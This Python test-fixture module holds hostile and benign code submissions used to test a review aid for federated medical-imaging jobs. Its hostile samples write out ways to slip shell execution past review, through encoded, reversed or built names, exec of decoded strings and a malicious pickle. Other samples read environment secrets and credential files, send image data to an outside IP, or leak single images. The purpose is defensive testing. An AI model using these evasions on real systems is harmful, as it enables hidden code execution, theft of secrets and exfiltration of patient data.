"""Hostile and benign submissions for the review aid, one entry per technique.

Each :class:`Sample` is a whole submission (what PySyft stores as the code) and
the rule classes of which at least one must come out at high or medium. The
hostile samples cover what a scientist tried against the review (file reads
through numpy, pathlib and medsyft's store; the environment; unpickling;
reflection through attrgetter, namespaces, dunders and built names; writes
through sqlite3 and memmap; statistics of single images; code disguised as
medsyft's template) and further evasions: aliases, nesting, encodings, exec of
decoded code, ``type()`` and ``__reduce__``, ctypes, sockets, threads, the
data directory. The benign samples are ordinary aggregate and training code.
"""

from __future__ import annotations

import base64
import pickle
import textwrap
from dataclasses import dataclass

ASSETS = ("images", "labels")
TEMPLATE_DOC = (
    "Evaluate the incoming global model on this site's validation split, then train it\n"
    "    on the training split with the approved job constants; return its weights and\n"
    "    aggregate metrics. The logic is the datasite's installed medsyft runtime.")


@dataclass(frozen=True)
class Sample:
    name: str
    expect: tuple[str, ...]  # at least one high/medium flag of one of these rules
    source: str
    assets: tuple[str, ...] = ASSETS
    function: str | None = None


def job(body: str, params: str = "images, labels, payload") -> str:
    """A submission whose function ``job(params)`` runs ``body``."""
    return f"def job({params}):\n" + textwrap.indent(textwrap.dedent(body).strip("\n"), "    ") + "\n"


def lookalike(body: str, params: str = "labels, job, payload", above: str = "") -> str:
    """Code dressed as medsyft's job: its name, decorator and docstring."""
    return (f"{above}@sy.syft_function(\n"
            "    input_policy=sy.MixedInputPolicy(\n"
            "        client=client, labels=labels_asset, job=sy.Constant(val=job_spec), payload=dict\n"
            "    ),\n"
            "    output_policy=OutputPolicyExecuteCount(limit=4),\n"
            ")\n"
            f"def medsyft_job_abc({params}):\n"
            f'    """{TEMPLATE_DOC}"""\n'
            + textwrap.indent(textwrap.dedent(body).strip("\n"), "    ") + "\n")


def _b64(code: str) -> str:
    return base64.b64encode(code.encode()).decode()


class _Shell:
    def __reduce__(self) -> tuple[object, tuple[str]]:
        import os

        return (os.system, ("id",))


EVIL_PICKLE = pickle.dumps(_Shell(), protocol=0)
EVIL_PICKLE_4 = pickle.dumps(_Shell(), protocol=4)

MALICIOUS: list[Sample] = [
    # -- file reads: numpy, pathlib, medsyft's store --------------------------------------------
    Sample("np_load_training_store", ("file-read",), job("""
        import numpy as np
        stolen = np.load("/srv/st-mary/datasets/trainset.npz")
        return float(stolen["images"].mean())
    """)),
    Sample("np_fromfile", ("file-read",), job("""
        import numpy as np
        raw = np.fromfile(payload["path"], dtype=np.uint8)
        return raw.tobytes()
    """)),
    Sample("np_loadtxt", ("file-read",), job("""
        from numpy import loadtxt
        return loadtxt(payload["path"]).sum()
    """)),
    Sample("np_memmap_read_only", ("file-read",), job("""
        import numpy as np
        view = np.memmap(payload["path"], dtype=np.uint8, mode="r")
        return bytes(view[:4096])
    """)),
    Sample("np_load_aliased", ("file-read",), job("""
        import numpy
        loader = numpy.load
        data = loader(payload["path"])
        return len(data)
    """)),
    Sample("pathlib_read_bytes", ("file-read",), job("""
        from pathlib import Path
        return Path(payload["path"]).read_bytes()
    """)),
    Sample("pathlib_open", ("file-read",), job("""
        import pathlib
        with pathlib.Path("/srv/st-mary") .joinpath("medsyft.json").open() as fh:
            return fh.read()
    """)),
    Sample("param_read_text", ("file-read",), job("""
        return payload["where"].read_text()
    """)),
    Sample("open_credentials", ("file-read",), job("""
        import os
        with open(os.path.join(payload["dir"], "credentials.json")) as fh:
            return fh.read()
    """)),
    Sample("glob_datasets", ("file-read",), job("""
        import glob
        return glob.glob("/srv/*/datasets/*.npz")
    """)),
    Sample("store_load", ("internals",), job("""
        from domains.data import store
        from domains.site.datadir import DataDir
        everything = store.load(DataDir(payload["dir"]), "trainset")
        return float(everything.images.mean())
    """)),
    Sample("store_load_module_alias", ("internals",), job("""
        import domains.data.store as s
        return s.load(payload["dir"], "trainset").labels.tolist()
    """)),
    Sample("runtime_private_helper", ("internals", "medsyft-lookalike"), job("""
        from domains.runtime import entry
        return entry._site_data(payload["dir"], payload["spec"], labels)
    """)),
    # -- the environment --------------------------------------------------------------------------
    Sample("dict_os_environ", ("environment",), job("""
        import os
        return dict(os.environ)
    """)),
    Sample("environ_copy", ("environment",), job("""
        import os
        return os.environ.copy()
    """)),
    Sample("getenv_signing_key", ("environment",), job("""
        from os import getenv
        return getenv("SERVER_PRIVATE_KEY")
    """)),
    Sample("environb", ("environment",), job("""
        import os as system_tools
        return list(system_tools.environb.items())
    """)),
    Sample("proc_self_environ", ("environment",), job("""
        with open("/proc/self/environ", "rb") as fh:
            return fh.read()
    """)),
    Sample("proc_environ_built", ("environment",), job("""
        where = "/proc/self/" + "env" + "iron"
        return open(where).read()
    """)),
    Sample("environ_from_import_alias", ("environment",), job("""
        from os import environ as settings
        return {k: v for k, v in settings.items()}
    """)),
    Sample("environ_through_module_dict", ("environment", "dynamic-access"), job("""
        import os
        return dict(os.__dict__["environ"])
    """)),
    # -- unpickling -------------------------------------------------------------------------------
    Sample("pickle_loads_payload", ("deserialization",), job("""
        import pickle
        model = pickle.loads(payload["blob"])
        return model(images)
    """)),
    Sample("np_load_allow_pickle", ("deserialization",), job("""
        import numpy as np
        return np.load(payload["path"], allow_pickle=True).item()
    """)),
    Sample("np_load_allow_pickle_computed", ("deserialization",), job("""
        import numpy as np
        return np.load(payload["path"], allow_pickle=payload["flag"]).item()
    """)),
    Sample("marshal_loads", ("deserialization",), job("""
        import marshal
        code = marshal.loads(payload["blob"])
        return 0
    """)),
    Sample("shelve_open", ("deserialization",), job("""
        import shelve
        with shelve.open(payload["path"]) as db:
            return dict(db)
    """)),
    Sample("dill_loads", ("deserialization",), job("""
        import dill as d
        return d.loads(payload["blob"])()
    """)),
    Sample("torch_load_no_weights_only", ("deserialization",), job("""
        import torch
        return torch.load(payload["path"])
    """)),
    Sample("torch_load_weights_only_false", ("deserialization",), job("""
        import torch
        return torch.load(payload["path"], weights_only=False)
    """)),
    Sample("pickle_literal_calls_system", ("deserialization", "subprocess"), job(f"""
        import pickle
        pickle.loads({EVIL_PICKLE!r})
        return 0
    """)),
    Sample("yaml_unsafe_load", ("deserialization",), job("""
        import yaml
        return yaml.load(payload["text"], Loader=yaml.Loader)
    """)),
    # -- reflection: attrgetter, namespaces, computed and built names -----------------------------
    Sample("attrgetter_system", ("subprocess",), job("""
        import operator, os
        operator.attrgetter("system")(os)("id")
        return 0
    """)),
    Sample("os_dict_system", ("subprocess", "dynamic-access"), job("""
        import os
        os.__dict__["system"]("id")
        return 0
    """)),
    Sample("sys_modules_os", ("subprocess", "dynamic-import"), job("""
        import sys
        sys.modules["os"].system("id")
        return 0
    """)),
    Sample("getattr_computed_name", ("dynamic-access",), job("""
        import os
        getattr(os, payload["name"])(payload["arg"])
        return 0
    """)),
    Sample("getattr_alias_on_alias", ("subprocess",), job("""
        import os
        g = getattr
        o = os
        g(o, "popen")("id").read()
        return 0
    """)),
    Sample("vars_module_built_key", ("subprocess", "dynamic-access"), job("""
        import os
        vars(os)["sys" + "tem"]("id")
        return 0
    """)),
    Sample("import_module_computed", ("dynamic-import", "dynamic-access"), job("""
        import importlib
        mod = importlib.import_module(payload["module"])
        return mod.run(payload)
    """)),
    Sample("dunder_import_built", ("subprocess", "dynamic-import"), job("""
        __import__("o" + "s").system("id")
        return 0
    """)),
    Sample("globals_builtins_exec", ("eval-exec", "dynamic-access"), job("""
        globals()["__builtins__"]["exec"](payload["code"])
        return 0
    """)),
    Sample("builtins_dict_eval_built", ("eval-exec", "dynamic-access"), job("""
        run = __builtins__.__dict__["ev" + "al"]
        return run(payload["expr"])
    """)),
    Sample("subclasses_walk", ("eval-exec",), job("""
        for cls in ().__class__.__base__.__subclasses__():
            if cls.__name__ == "Popen":
                cls(["id"])
        return 0
    """)),
    Sample("builtins_module_open_write", ("eval-exec", "file-write"), job("""
        import builtins as b
        b.open("/tmp/copy.bin", "wb").write(images.tobytes())
        return 0
    """)),
    Sample("getattr_hex_name", ("subprocess", "dynamic-access"), job("""
        import os
        getattr(os, bytes.fromhex("73797374656d").decode())("id")
        return 0
    """)),
    Sample("getattr_reversed_name", ("subprocess", "dynamic-access"), job("""
        import os
        getattr(os, "metsys"[::-1])("id")
        return 0
    """)),
    Sample("getattr_chr_name", ("subprocess", "dynamic-access"), job("""
        import os
        name = "".join(map(chr, [115, 121, 115, 116, 101, 109]))
        getattr(os, name)("id")
        return 0
    """)),
    Sample("getattr_fstring_name", ("subprocess", "dynamic-access"), job("""
        import os
        part = "sys"
        getattr(os, f"{part}tem")("id")
        return 0
    """)),
    Sample("exec_base64", ("subprocess", "eval-exec"), job(f"""
        import base64
        exec(base64.b64decode("{_b64("import os; os.system('id')")}"))
        return 0
    """)),
    Sample("exec_rot13", ("subprocess", "eval-exec"), job("""
        import codecs
        exec(codecs.decode("vzcbeg bf; bf.flfgrz('vq')", "rot13"))
        return 0
    """)),
    Sample("eval_compile", ("eval-exec", "dynamic-import"), job("""
        src = "__import__('os').system('id')"
        return eval(compile(src, "<job>", "eval"))
    """)),
    Sample("timeit_runs_string", ("eval-exec", "subprocess"), job("""
        import timeit
        timeit.timeit("import os; os.system('id')", number=1)
        return 0
    """)),
    Sample("type_built_class_reduce", ("dynamic-access",), job("""
        import os
        Evil = type("Evil", (), {"__reduce__": lambda self: (os.system, ("id",))})
        return Evil()
    """)),
    Sample("reduce_method_returned", ("dynamic-access", "subprocess"), job("""
        class Result:
            def __reduce__(self):
                import os
                return (os.system, ("id",))
        return Result()
    """)),
    Sample("format_string_walks_globals", ("dynamic-access",), job("""
        return "{0.__init__.__globals__}".format(payload["obj"])
    """)),
    Sample("container_alias", ("subprocess",), job("""
        import os
        tools = {"o": os}
        tools["o"].system("id")
        return 0
    """)),
    Sample("class_attribute_alias", ("subprocess",), job("""
        import os
        class Tools:
            shell = os
        Tools.shell.system("id")
        return 0
    """)),
    Sample("frame_globals", ("eval-exec",), job("""
        import inspect
        return inspect.currentframe().f_back.f_globals["server"]
    """)),
    Sample("gc_get_objects", ("eval-exec",), job("""
        import gc
        keys = [o for o in gc.get_objects() if type(o).__name__ == "SyftSigningKey"]
        return str(keys)
    """)),
    Sample("getattr_passed_as_value", ("dynamic-access",), job("""
        import functools, os
        functools.reduce(getattr, ["path", "os", "system"], os)("id")
        return 0
    """)),
    # -- native code, network, processes, threads -------------------------------------------------
    Sample("ctypes_libc_system", ("dynamic-import",), job("""
        import ctypes
        ctypes.CDLL(None).system(b"id")
        return 0
    """)),
    Sample("socket_alias_exfiltrates", ("network",), job("""
        import socket as s
        conn = s.create_connection(("203.0.113.5", 443))
        conn.sendall(images.tobytes())
        return 0
    """)),
    Sample("urllib_from_import", ("network",), job("""
        from urllib import request as r
        r.urlopen("http://203.0.113.5/up", data=images.tobytes())
        return 0
    """)),
    Sample("subprocess_assigned_alias", ("subprocess",), job("""
        import subprocess as sp
        run = sp.run
        run(["id"])
        return 0
    """)),
    Sample("subprocess_in_default_argument", ("subprocess", "dynamic-import"), job("""
        _.run(["id"])
        return 0
    """, params="images, labels, payload, _=__import__('subprocess')")),
    Sample("os_popen", ("subprocess",), job("""
        import os
        return os.popen("id").read()
    """)),
    Sample("pty_spawn", ("subprocess",), job("""
        import pty
        pty.spawn("/bin/sh")
        return 0
    """)),
    Sample("os_kill_datasite", ("subprocess",), job("""
        import os, signal
        os.kill(os.getppid(), signal.SIGKILL)
        return 0
    """)),
    Sample("asyncio_subprocess", ("subprocess",), job("""
        import asyncio
        asyncio.run(asyncio.create_subprocess_exec("id"))
        return 0
    """)),
    Sample("map_system_over_payload", ("subprocess",), job("""
        import os
        return list(map(os.system, payload["commands"]))
    """)),
    Sample("system_in_comprehension", ("subprocess",), job("""
        import os
        return [os.system(c) for c in payload["commands"]]
    """)),
    Sample("thread_outlives_call", ("background",), job("""
        import threading
        def watch():
            while True:
                pass
        threading.Thread(target=watch, daemon=True).start()
        return 0
    """)),
    Sample("timer_from_import_alias", ("background",), job("""
        from threading import Timer as Later
        Later(60.0, print).start()
        return 0
    """)),
    Sample("atexit_hook", ("background",), job("""
        import atexit
        atexit.register(print, "still here")
        return 0
    """)),
    Sample("settrace_watches_later_jobs", ("background",), job("""
        import sys
        sys.settrace(lambda frame, event, arg: None)
        return 0
    """)),
    Sample("sys_path_then_import", ("dynamic-import",), job("""
        import sys
        sys.path.insert(0, "/tmp/evil")
        import evil
        return evil.run(images)
    """)),
    Sample("decorator_on_nested_function", ("subprocess", "dynamic-import"), job("""
        @(lambda fn: (__import__("os").system("id"), fn)[1])
        def helper():
            return 0
        return helper()
    """)),
    Sample("syft_server_internals", ("internals",), job("""
        import syft
        from syft.server.server import Server
        return str(Server)
    """)),
    Sample("datasite_parameter", ("internals",), job("""
        return datasite.launch_job(payload["other"])
    """, params="images, labels, payload, datasite")),
    Sample("os_through_another_module", ("subprocess",), job("""
        import shutil
        shutil.os.system("id")
        return 0
    """)),
    Sample("posix_module", ("subprocess",), job("""
        import posix as p
        p.system("id")
        return 0
    """)),
    Sample("methodcaller_system", ("subprocess",), job("""
        import operator, os
        operator.methodcaller("system", "id")(os)
        return 0
    """)),
    Sample("print_self_is_builtins", ("dynamic-access",), job("""
        print.__self__.__import__("os").system("id")
        return 0
    """)),
    Sample("metaclass_new", ("dynamic-access",), job("""
        class Meta(type):
            def __new__(mcs, name, bases, namespace):
                return super().__new__(mcs, name, bases, namespace)
        class Hidden(metaclass=Meta):
            pass
        return 0
    """)),
    Sample("exec_bytes_from_ints", ("eval-exec", "subprocess"), job("""
        exec(bytes([105, 109, 112, 111, 114, 116, 32, 112, 116, 121]))
        return 0
    """)),
    Sample("setattr_on_builtins", ("eval-exec",), job("""
        setattr(__builtins__, "len", lambda x: 0)
        return 0
    """)),
    Sample("pip_installs_code", ("dynamic-import",), job("""
        import pip
        pip.main(["install", "helper"])
        return 0
    """)),
    # -- writes: sqlite3, memmap, shutil, the data directory --------------------------------------
    Sample("ndarray_dump_pickles_to_disk", ("file-write",), job("""
        images.dump("/tmp/images.pkl")
        return 0
    """)),
    Sample("logging_to_a_file", ("file-write",), job("""
        import logging
        logging.basicConfig(filename="/tmp/job.log")
        return 0
    """)),
    Sample("sqlite3_store", ("file-write",), job("""
        import sqlite3
        db = sqlite3.connect("/srv/st-mary/syft/db.sqlite")
        return db.execute("select * from User").fetchall()
    """)),
    Sample("memmap_write_plus", ("file-write",), job("""
        import numpy as np
        out = np.memmap("/tmp/copy.dat", dtype=np.uint8, mode="w+", shape=images.shape)
        out[:] = images
        return 0
    """)),
    Sample("memmap_default_mode_writes", ("file-write",), job("""
        import numpy as np
        view = np.memmap(payload["path"], dtype=np.uint8)
        view[:] = 0
        return 0
    """)),
    Sample("shutil_copy_store", ("file-write",), job("""
        import shutil
        shutil.copy("/srv/st-mary/datasets/trainset.npz", "/tmp/x.npz")
        return 0
    """)),
    Sample("os_rename_ledger", ("file-write",), job("""
        import os
        os.rename(payload["ledger"], payload["ledger"] + ".bak")
        return 0
    """)),
    Sample("write_audit_log_in_data_dir", ("file-write", "environment"), job("""
        import os
        with open(os.path.join(os.environ["MEDSYFT_DATA_DIR"], "audit.jsonl"), "w") as fh:
            fh.write("")
        return 0
    """)),
    Sample("path_write_bytes", ("file-write",), job("""
        from pathlib import Path
        Path("/tmp/leak.bin").write_bytes(images.tobytes())
        return 0
    """)),
    # -- statistics of single images --------------------------------------------------------------
    Sample("first_image_mean", ("single-image-return",), job("""
        return float(images[0].mean())
    """)),
    Sample("chosen_image_sum", ("single-image-return",), job("""
        i = payload["i"]
        return images[i].sum()
    """)),
    Sample("first_label_slice", ("raw-asset-return",), job("""
        return labels[:1]
    """)),
    Sample("per_image_means", ("per-image-return",), job("""
        return images.mean(axis=(1, 2))
    """)),
    Sample("next_iter_max", ("single-image-return",), job("""
        return next(iter(images)).max()
    """)),
    Sample("last_loop_value", ("single-image-return",), job("""
        for img in images:
            last = img.mean()
        return last
    """)),
    Sample("helper_picks_first", ("single-image-return",), job("""
        def pick(a):
            return a[0]
        return pick(images).mean()
    """)),
    Sample("lambda_with_default_index", ("single-image-return",), job("""
        pick = lambda a, k=3: a[k]
        return float(pick(images).std())
    """)),
    Sample("difference_attack", ("single-image-return",), job("""
        return images.sum() - images[1:].sum()
    """)),
    Sample("np_take_one", ("single-image-return",), job("""
        import numpy as np
        return np.take(images, 0, axis=0).mean()
    """)),
    Sample("brightest_image_by_key", ("single-image-return",), job("""
        return max(images, key=lambda im: im.mean()).mean()
    """)),
    Sample("argmax_position_indexes", ("single-image-return",), job("""
        return images[labels.argmax()].mean()
    """)),
    Sample("unpack_first_image", ("single-image-return",), job("""
        first, *rest = images
        return first.std()
    """)),
    Sample("strided_pick", ("single-image-return",), job("""
        return images[::1000].mean()
    """)),
    Sample("guarded_accumulation", ("single-image-return",), job("""
        total = 0.0
        for i, img in enumerate(images):
            if i == 3:
                total += img.mean()
        return total
    """)),
    Sample("getitem_dunder_pick", ("single-image-return",), job("""
        return images.__getitem__(0).mean()
    """)),
    Sample("itemgetter_pick", ("single-image-return",), job("""
        import operator
        return operator.itemgetter(0)(images).mean()
    """)),
    Sample("zip_stops_early", ("single-image-return",), job("""
        total = 0.0
        for img, _ in zip(images, range(1)):
            total += img.mean()
        return total
    """)),
    Sample("strided_range_loop", ("single-image-return",), job("""
        total = 0.0
        for i in range(0, len(images), 1000):
            total += images[i].mean()
        return total / len(images)
    """)),
    Sample("transposed_pick", ("single-image-return",), job("""
        return images.T[..., 0].mean()
    """)),
    Sample("flattened_first_pixels", ("single-image-return",), job("""
        flat = images.ravel()
        return flat[:784].mean()
    """)),
    Sample("class_attribute_holds_image", ("single-image-return",), job("""
        class Box:
            held = images[0]
        return Box.held.mean()
    """)),
    Sample("weights_overwritten_with_image", ("per-image-return", "raw-asset-return"), job("""
        import torch
        model = torch.nn.Linear(784, 1)
        w = model.weight
        w.data[:] = torch.tensor(images[0].ravel())
        return model.state_dict()
    """)),
    Sample("vector_to_parameters", ("per-image-return", "raw-asset-return"), job("""
        import torch
        model = torch.nn.Linear(784, 1)
        torch.nn.utils.vector_to_parameters(torch.tensor(images[0].ravel()), model.parameters())
        return model.state_dict()
    """)),
    Sample("print_an_image", ("log-leak",), job("""
        print(images[0].tolist())
        return 0
    """)),
    Sample("error_carries_images", ("log-leak",), job("""
        raise ValueError(str(images[:3].tolist()))
    """)),
    Sample("logger_logs_labels", ("log-leak",), job("""
        import logging
        logging.getLogger("x").info("labels %s", labels.tolist())
        return 0
    """)),
    # -- code disguised as medsyft's job ----------------------------------------------------------
    Sample("lookalike_reads_store_then_run_job", ("medsyft-lookalike",), lookalike("""
        from domains.runtime.entry import run_job
        import numpy as np
        np.load("/srv/st-mary/datasets/trainset.npz")
        return run_job(labels, job, payload)
    """), assets=("labels",)),
    Sample("lookalike_system_call", ("medsyft-lookalike",), lookalike("""
        from domains.runtime.entry import run_job
        import os
        os.system("id")
        return run_job(labels, job, payload)
    """), assets=("labels",)),
    Sample("lookalike_returns_labels_too", ("medsyft-lookalike",), lookalike("""
        from domains.runtime.entry import run_job

        return run_job(labels, job, payload), labels[:5]
    """), assets=("labels",)),
    Sample("lookalike_default_argument", ("medsyft-lookalike",), lookalike("""
        from domains.runtime.entry import run_job

        return run_job(labels, job, payload)
    """, params="labels, job, payload, _=print('x')"), assets=("labels",)),
    Sample("lookalike_only_docstring", ("medsyft-lookalike",), job(f'''
        """{TEMPLATE_DOC}"""
        return labels.tolist()
    ''', params="labels, job, payload"), assets=("labels",)),
    Sample("lookalike_statement_beside", ("medsyft-lookalike",), lookalike("""
        from domains.runtime.entry import run_job

        return run_job(labels, job, payload)
    """, above="leak = open('/tmp/x', 'w')\n"), assets=("labels",)),
    Sample("lookalike_redefined_below", ("medsyft-lookalike", "dynamic-access"), lookalike("""
        from domains.runtime.entry import run_job

        return run_job(labels, job, payload)
    """) + "\n\ndef medsyft_job_abc(labels, job, payload):\n    return labels\n",
        assets=("labels",), function="medsyft_job_abc"),
    Sample("lookalike_runtime_module_alias", ("medsyft-lookalike",), lookalike("""
        from domains.runtime import entry as rt

        return rt.run_job(labels, job, payload)
    """), assets=("labels",)),
    Sample("lookalike_release_with_extra", ("medsyft-lookalike",), job('''
        """Decrypt the job's final model (only if it is the one this site evaluated last)."""
        from domains.runtime.entry import run_release
        payload["copy"] = labels.copy()
        return run_release(labels, release, payload)
    ''', params="labels, release, payload"), assets=("labels",)),
]

BENIGN: list[Sample] = [
    Sample("aggregates", (), job("""
        import numpy as np
        return {
            "n": len(images),
            "mean": float(images.mean()),
            "std": float(np.std(images)),
            "classes": np.bincount(labels.reshape(-1)).tolist(),
            "p95": float(np.percentile(images, 95)),
            "histogram": np.histogram(images, bins=10)[0].tolist(),
        }
    """)),
    Sample("class_means_by_mask", (), job("""
        import numpy as np
        means = {}
        for c in np.unique(labels):
            means[int(c)] = float(images[labels.reshape(-1) == c].mean())
        return means
    """)),
    Sample("loop_accumulates_every_image", (), job("""
        total = 0.0
        for img in images:
            total += img.mean()
        return total / len(images)
    """)),
    Sample("index_loop_accumulates", (), job("""
        total = 0.0
        for i in range(len(images)):
            total += float(images[i].sum())
        return total
    """)),
    Sample("label_histogram_by_hand", (), job("""
        counts = {}
        for y in labels.reshape(-1):
            counts[int(y)] = counts.get(int(y), 0) + 1
        return counts
    """)),
    Sample("proportional_split", (), job("""
        n = int(0.8 * len(images))
        train, val = images[:n], images[n:]
        return {"train": float(train.mean()), "val": float(val.mean())}
    """)),
    Sample("sum_of_generator", (), job("""
        return sum(float(img.sum()) for img in images) / len(images)
    """)),
    Sample("literal_getattr_names", (), job("""
        import torch
        model = torch.nn.Sequential()
        model.add_module("fc1", torch.nn.Linear(4, 4))
        sizes = {}
        for name in ("fc1",):
            sizes[name] = getattr(model, name).weight.numel()
        return sizes
    """)),
    Sample("dataset_and_module_classes", (), job("""
        import torch
        from torch.utils.data import DataLoader, Dataset

        class Images(Dataset):
            def __init__(self, x, y):
                self.x, self.y = x, y

            def __len__(self):
                return len(self.x)

            def __getitem__(self, i):
                return self.x[i], self.y[i]

        class Net(torch.nn.Module):
            def __init__(self):
                super().__init__()
                self.fc = torch.nn.Linear(784, 2)

            def forward(self, x):
                return self.fc(x.flatten(1))

        net = Net()
        opt = torch.optim.SGD(net.parameters(), lr=0.1)
        loader = DataLoader(Images(torch.tensor(images).float(), torch.tensor(labels).long()),
                            batch_size=32)
        for xb, yb in loader:
            opt.zero_grad()
            loss = torch.nn.functional.cross_entropy(net(xb), yb.view(-1))
            loss.backward()
            opt.step()
        return {"weights": net.state_dict(), "name": net.__class__.__name__}
    """)),
    Sample("printed_aggregate", (), job("""
        print(f"mean intensity {float(images.mean()):.3f} over {len(images)} images")
        return float(images.mean())
    """)),
    Sample("pandas_value_counts", (), job("""
        import pandas as pd
        frame = pd.DataFrame({"label": labels.reshape(-1)})
        return frame["label"].value_counts().to_dict()
    """)),
    Sample("shuffled_split", (), job("""
        import numpy as np
        order = np.random.default_rng(0).permutation(len(images))
        n = int(0.8 * len(images))
        train, val = images[order[:n]], images[order[n:]]
        return {"train": float(train.mean()), "val": float(val.mean())}
    """)),
    Sample("array_split_batches", (), job("""
        import numpy as np
        total = 0.0
        for chunk in np.array_split(images, 10):
            total += float(chunk.sum())
        return total / images.size
    """)),
    Sample("batched_evaluation", (), job("""
        import torch
        model = torch.nn.Linear(784, 2)
        correct, seen = 0, 0
        with torch.no_grad():
            for start in range(0, len(images), 64):
                xb = torch.tensor(images[start:start + 64]).float().flatten(1)
                yb = torch.tensor(labels[start:start + 64]).view(-1)
                correct += int((model(xb).argmax(1) == yb).sum())
                seen += len(yb)
        return {"accuracy": correct / seen}
    """)),
    Sample("per_class_with_guard", (), job("""
        stats = {}
        for c in (0, 1):
            chosen = images[labels.reshape(-1) == c]
            if len(chosen):
                stats[c] = float(chosen.mean())
        return stats
    """)),
    Sample("monai_transform", (), job("""
        from monai.transforms import ScaleIntensity
        scaled = ScaleIntensity()(images)
        return {"mean": float(scaled.mean()), "std": float(scaled.std())}
    """)),
    Sample("accuracy_metric", (), job("""
        from sklearn.metrics import accuracy_score
        predictions = (images.reshape(len(images), -1).mean(axis=1) > 100).astype(int)
        return {"accuracy": float(accuracy_score(labels.reshape(-1), predictions))}
    """)),
]
